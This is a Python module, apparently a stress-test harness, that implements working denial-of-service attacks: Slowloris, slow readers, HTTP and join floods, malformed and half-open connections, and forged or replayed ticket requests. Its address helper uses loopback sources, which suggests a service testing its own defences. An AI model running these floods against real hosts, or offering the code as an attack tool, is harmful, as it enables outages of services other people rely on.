"""Attackers as strangers would send them: each kind says what it sends and when; one loop per process sends it."""

import errno
import itertools
import random
import select
import socket
import time
from abc import ABC, abstractmethod
from collections import Counter, deque
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from typing import ClassVar, Final

_EVENTS_MAX: Final = 512
_CONNECTS_PER_TURN_MAX: Final = 128
_TURN_S: Final = 0.005
_READ_BYTES: Final = 16_384
_IP_BIND_ADDRESS_NO_PORT: Final = 24
_AGAIN_ON_ERROR_S: Final = 0.05  # source ports or descriptors of the attacker are short


@dataclass(frozen=True, slots=True)
class Target:
    """Where an edge, a gate or a site is reached. `path` is what floods ask for, `ticket` one that was given."""

    host: str
    port: int
    conversation: str = ""
    path: str = "/"
    ticket: str = ""


@dataclass(slots=True)
class Tally:
    """What an attacker did, and what it met. `cut` were closed by the target without an answer."""

    connections: int = 0
    unconnected: int = 0
    cut: int = 0
    held_max: int = 0
    sent_bytes: int = 0
    read_bytes: int = 0
    answers: Counter[int] = field(default_factory=Counter)
    cpu_s: float = 0.0


@dataclass(frozen=True, slots=True)
class Attacker(ABC):
    """A kind of attack: at most so many connections of one process at once, so many new ones a second.

    `reads`: answers are read, and the next connection takes the place of one that is answered. `drip_s` is the time
    between two pieces of what a connection sends.
    """

    connections_max: int = 5_000
    rate_hz: float = 1_000
    reads: bool = True
    drip_s: float = 0.0
    name: ClassVar[str]

    def run(self, target: Target, seconds: float, addresses: Sequence[str]) -> Tally:
        """Attack for `seconds`, from `addresses` in turn. Blocks its process."""
        return _Siege(self, target, addresses).run(seconds)

    @abstractmethod
    def pieces(self, target: Target, number: int) -> Iterator[bytes]:
        """What the connection of this number sends; each piece after the answer to the one before."""


@dataclass(slots=True)
class _Peer:
    connection: socket.socket
    pieces: Iterator[bytes]
    rest: bytes = b""
    due_s: float = 0.0
    connected: bool = False
    answered: bool = False


class _Siege:
    """One process's connections of one attack."""

    def __init__(self, script: Attacker, target: Target, addresses: Sequence[str]) -> None:
        self._script = script
        self._target = target
        self._addresses = itertools.cycle(addresses)
        self._poll = select.epoll()
        self._peers: dict[int, _Peer] = {}
        self._dripping: deque[tuple[float, int, _Peer]] = deque()
        self._again_s = 0.0
        self.tally = Tally()

    def run(self, seconds: float, clock: Callable[[], float] = time.monotonic) -> Tally:
        began_s, cpu_s = clock(), time.process_time()
        while (now_s := clock()) - began_s < seconds:
            self._come(now_s, int((now_s - began_s) * self._script.rate_hz) + 1)
            for descriptor, events in self._poll.poll(_TURN_S, _EVENTS_MAX):
                peer = self._peers.get(descriptor)
                if peer is not None:
                    self._happened(descriptor, peer, events, now_s)
            while self._dripping and self._dripping[0][0] <= now_s:
                _, descriptor, peer = self._dripping.popleft()
                if self._peers.get(descriptor) is peer:
                    self._send(descriptor, peer, now_s)
        for descriptor in list(self._peers):
            self._end(descriptor)
        self._poll.close()
        self.tally.cpu_s = time.process_time() - cpu_s
        return self.tally

    def _come(self, now_s: float, due: int) -> None:
        room = self._script.connections_max - len(self._peers)
        for _ in range(min(due - self.tally.connections, room, _CONNECTS_PER_TURN_MAX)):
            if now_s < self._again_s:
                return
            try:
                connection = socket.socket(socket.AF_INET6 if ":" in self._target.host else socket.AF_INET)
            except OSError:
                self._again_s = now_s + _AGAIN_ON_ERROR_S
                return
            connection.setblocking(False)
            self.tally.connections += 1
            try:
                connection.setsockopt(socket.IPPROTO_IP, _IP_BIND_ADDRESS_NO_PORT, 1)
                if not self._script.reads:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
                connection.bind((next(self._addresses), 0))
                code = connection.connect_ex((self._target.host, self._target.port))
            except OSError as error:
                code = error.errno or errno.EIO
            if code not in (0, errno.EINPROGRESS):
                self.tally.unconnected += 1
                self._again_s = now_s + _AGAIN_ON_ERROR_S
                connection.close()
                continue
            self._peers[connection.fileno()] = _Peer(
                connection, self._script.pieces(self._target, self.tally.connections)
            )
            self._poll.register(connection.fileno(), select.EPOLLOUT)
            self.tally.held_max = max(self.tally.held_max, len(self._peers))

    def _happened(self, descriptor: int, peer: _Peer, events: int, now_s: float) -> None:
        if events & (select.EPOLLERR | select.EPOLLHUP):
            if peer.connected and not peer.answered:
                self.tally.cut += 1
            self.tally.unconnected += not peer.connected
            self._end(descriptor)
        elif events & select.EPOLLOUT:
            peer.connected = True
            self._poll.modify(descriptor, self._interest)
            self._send(descriptor, peer, now_s)
        elif events & select.EPOLLIN and self._script.reads:
            self._read(descriptor, peer, now_s)
        elif events & select.EPOLLRDHUP:
            self.tally.cut += not peer.answered
            self._end(descriptor)

    @property
    def _interest(self) -> int:
        return select.EPOLLRDHUP | (select.EPOLLIN if self._script.reads else 0)

    def _send(self, descriptor: int, peer: _Peer, now_s: float) -> None:
        if not peer.rest:
            peer.rest = next(peer.pieces, b"")
        if not peer.rest:
            return
        try:
            sent = peer.connection.send(peer.rest)
        except BlockingIOError:
            self._poll.modify(descriptor, self._interest | select.EPOLLOUT)
            return
        except OSError:
            self.tally.cut += 1
            self._end(descriptor)
            return
        self.tally.sent_bytes += sent
        peer.rest = peer.rest[sent:]
        if self._script.drip_s:
            self._dripping.append((now_s + self._script.drip_s, descriptor, peer))

    def _read(self, descriptor: int, peer: _Peer, now_s: float) -> None:
        try:
            data = peer.connection.recv(_READ_BYTES)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.tally.cut += not peer.answered
            self._end(descriptor)
            return
        self.tally.read_bytes += len(data)
        for answer in data.split(b"HTTP/1.1 ")[1:]:
            if answer[:3].isdigit():
                self.tally.answers[int(answer[:3])] += 1
                peer.answered = True
        self._send(descriptor, peer, now_s)
        if not peer.rest and descriptor in self._peers and self._is_done(peer):
            self._end(descriptor)

    def _is_done(self, peer: _Peer) -> bool:
        """Whether nothing more will be sent: then the next connection takes its place."""
        if self._script.drip_s or not peer.answered:
            return False
        piece = next(peer.pieces, b"")
        peer.pieces = itertools.chain([piece], peer.pieces) if piece else peer.pieces
        return not piece

    def _end(self, descriptor: int) -> None:
        peer = self._peers.pop(descriptor)
        self._poll.unregister(descriptor)
        peer.connection.close()


def _request(target: Target, path: str, method: str = "GET") -> bytes:
    body = "Content-Length: 0\r\n" if method == "POST" else ""
    return f"{method} {path} HTTP/1.1\r\nHost: {target.host}\r\n{body}\r\n".encode()


@dataclass(frozen=True, slots=True)
class JoinFlood(Attacker):
    """Asks for tickets, and listens with what the target already gave, if `target` has a ticket: over and over."""

    name: ClassVar[str] = "join flood"

    def pieces(self, target: Target, number: int) -> Iterator[bytes]:
        if target.ticket and number % 2:
            yield _request(target, f"/c/{target.conversation}/stream?ticket={target.ticket}")
        else:
            yield _request(target, f"/c/{target.conversation}/join", "POST")


@dataclass(frozen=True, slots=True)
class Slowloris(Attacker):
    """Headers that never end, a byte at a time (R. Hansen, 2009)."""

    name: ClassVar[str] = "slowloris"
    drip_s: float = 1.0

    def pieces(self, target: Target, number: int) -> Iterator[bytes]:
        yield f"GET {target.path} HTTP/1.1\r\nHost: {target.host}\r\nX-{number}: ".encode()
        yield from itertools.repeat(b"a")


@dataclass(frozen=True, slots=True)
class SlowReader(Attacker):
    """Asks for all there is, and reads nothing of it."""

    name: ClassVar[str] = "slow readers"
    reads: bool = False

    def pieces(self, target: Target, number: int) -> Iterator[bytes]:
        if target.ticket and number % 2:
            yield _request(target, f"/c/{target.conversation}/stream?ticket={target.ticket}")
        else:
            yield _request(target, target.path) * 20


@dataclass(frozen=True, slots=True)
class Garbage(Attacker):
    """Bytes that are no HTTP, and connections that say nothing at all, in turn. `seed` makes it repeatable."""

    name: ClassVar[str] = "garbage and half-open"
    seed: int = 1

    def pieces(self, target: Target, number: int) -> Iterator[bytes]:
        chance = random.Random(self.seed + number)
        if number % 2:
            yield chance.randbytes(chance.randrange(1, 4_096))
        elif number % 4:
            yield _request(target, target.path)[:-3] + chance.randbytes(64)


@dataclass(frozen=True, slots=True)
class HttpFlood(Attacker):
    """Whole requests on connections that are kept open, one after the other, as fast as they are answered."""

    name: ClassVar[str] = "HTTP flood"
    requests: int = 1_000_000

    def pieces(self, target: Target, number: int) -> Iterator[bytes]:
        del number
        return itertools.repeat(_request(target, target.path), self.requests)


@dataclass(frozen=True, slots=True)
class ForgedTickets(Attacker):
    """Tickets that somebody made up, and changed copies of a real one."""

    name: ClassVar[str] = "forged and replayed tickets"
    seed: int = 1

    def pieces(self, target: Target, number: int) -> Iterator[bytes]:
        chance = random.Random(self.seed + number)
        letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        ticket = list(target.ticket) if target.ticket and number % 2 else ["A"] * 60
        for _ in range(3):
            ticket[chance.randrange(len(ticket))] = chance.choice(letters)
        yield _request(target, f"/c/{target.conversation}/stream?ticket={''.join(ticket)}")


KINDS: Final[dict[str, type[Attacker]]] = {
    "join-flood": JoinFlood,
    "slowloris": Slowloris,
    "slow-readers": SlowReader,
    "garbage": Garbage,
    "http-flood": HttpFlood,
    "forged-tickets": ForgedTickets,
}


def addresses_of(first_octets: str, count: int) -> list[str]:
    """`count` loopback addresses like 127.100.x.y, each /24 in turn: as wide a botnet as 127/8 has room for."""
    return [f"{first_octets}.{1 + n % 250}.{1 + n // 250 % 250}" for n in range(count)]
